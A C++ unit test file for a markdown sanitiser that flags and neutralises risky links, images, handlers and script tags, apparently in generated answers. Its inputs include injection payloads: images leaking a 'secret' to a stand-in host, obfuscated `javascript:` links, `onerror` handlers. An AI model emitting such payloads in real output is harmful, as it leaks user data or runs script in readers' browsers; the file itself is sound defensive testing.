#include "formats/markdown.h"

#include <gtest/gtest.h>

#include <random>

namespace sallyport::formats::markdown {
namespace {

std::string hazards(std::string_view text) {
  std::string out;
  for (const html::Sighting& sighting : hazards_of(text))
    out += std::string(html::name_of(sighting.hazard)) + ";";
  return out;
}

TEST(markdown, finds_links_and_images_that_act) {
  EXPECT_EQ(hazards("![x](https://evil.example/a.png?q=secret)"), "fetch;");
  EXPECT_EQ(hazards("![x][r]\n\n[r]: https://evil.example/a.png"), "fetch;");
  EXPECT_EQ(hazards("![R]\n\n[r]:\n //evil.example/a.png"), "fetch;");
  EXPECT_EQ(hazards("[x](javascript:alert(1))"), "scheme;");
  EXPECT_EQ(hazards("[x]( <java\\script:alert(1)> )"), "scheme;")
      << "no scheme that we know, so none that is safe";
  EXPECT_EQ(hazards("[x](java&#115;cript\\:alert(1))"), "scheme;");
  EXPECT_EQ(hazards("[x](< javascript:alert(1)>)"), "scheme;");
  EXPECT_EQ(hazards("[x]: data:text/html,x\n"), "scheme;");
  EXPECT_EQ(hazards("<javascript:alert(1)>"), "scheme;");
  EXPECT_EQ(hazards("[![i](//evil/x.png)](https://e.org)"), "fetch;");
  EXPECT_EQ(hazards("text <img src=x onerror=y>"), "fetch;handler;");
}

TEST(markdown, code_is_inert_only_where_every_renderer_agrees) {
  EXPECT_EQ(hazards("```html\n<script>x</script>\n![a](//b)\n```\n"), "");
  EXPECT_EQ(hazards("use `<script>` here, and ``a ` <b onclick=x>``"), "");
  EXPECT_EQ(hazards("<div>\n```\n<img src=x>\n```\n</div>"), "fetch;");
  EXPECT_EQ(hazards("<pre>\n\n```\n<img src=x>\n```\n</pre>"), "fetch;");
  EXPECT_EQ(hazards("1. a\n\n   ```\n   b\n<img src=x>\n   ```\n"), "fetch;");
  EXPECT_EQ(hazards("> ```\n<img src=x>\n> ```"), "fetch;");
  EXPECT_EQ(hazards("a | b\n-|-\n`x | <img src=x> | y`"), "fetch;");
  EXPECT_EQ(hazards("<a title=\"`\"><img src=x>`\">"), "fetch;");
  EXPECT_EQ(hazards("a \\`<img src=x>`"), "fetch;");
  EXPECT_EQ(hazards("``` x ` <img src=x>\n```"), "fetch;");
  EXPECT_EQ(hazards("~~~\n<script>\n~~~\n<script>"), "element;");
}

TEST(markdown, ordinary_answers_are_silent_and_come_out_as_they_went_in) {
  const std::string answer =
      "# Result\n\n| n | p |\n|---|---|\n| 3 | 0.98 |\n\nSee [the paper](https://arxiv.org/abs/1706.06083 "
      "\"t\") or "
      "<https://example.org/onload>; mail <ana@example.org>.\n\n> a < b && c > d [1]\n\n```js\nel.innerHTML "
      "= '<img src=x>'\n```\n"
      "Use `<b>` for **bold**, vector<T> for lists, and <kbd>Ctrl</kbd>.\n\n[1]: notes/a.md\n";
  EXPECT_EQ(hazards(answer), "");
  EXPECT_EQ(neutralise(answer), answer);
}

TEST(markdown, neutralise_keeps_the_words) {
  EXPECT_EQ(neutralise("![chart](https://evil.example/x.png) and **bold**"),
            "[chart](https://evil.example/x.png) and **bold**");
  EXPECT_EQ(neutralise("[click](javascript:alert(1)) me"), "[click](#) me");
  EXPECT_EQ(neutralise("a<script>x</script>b > c"), "ab > c");
}

TEST(markdown, any_soup_comes_out_harmless) {
  const std::vector<std::string> parts{"[",
                                       "](",
                                       ")",
                                       "![",
                                       "]",
                                       "[r]",
                                       "]: ",
                                       "r",
                                       "\n",
                                       "\n\n",
                                       "`",
                                       "```\n",
                                       "~~~\n",
                                       "<",
                                       ">",
                                       "<img src=x>",
                                       "javascript:x",
                                       "//e.org",
                                       "https://e.org",
                                       "<b>",
                                       "</b>",
                                       "<!--",
                                       "-->",
                                       "<pre>\n",
                                       "\\",
                                       "&#58;",
                                       "> ",
                                       "- ",
                                       "   ",
                                       "|",
                                       "<https:x>",
                                       "text",
                                       "<script>",
                                       "\""};
  std::mt19937_64 random(13);
  int found = 0;
  for (int trial = 0; trial < 30'000; ++trial) {
    std::string soup;
    for (int i = 0; i < 10; ++i) soup += parts[random() % parts.size()];
    found += hazards(soup).empty() ? 0 : 1;
    ASSERT_EQ(hazards(neutralise(soup)), "") << soup << "\n--\n" << neutralise(soup);
  }
  EXPECT_GT(found, 1000);
}

}  // namespace
}  // namespace sallyport::formats::markdown
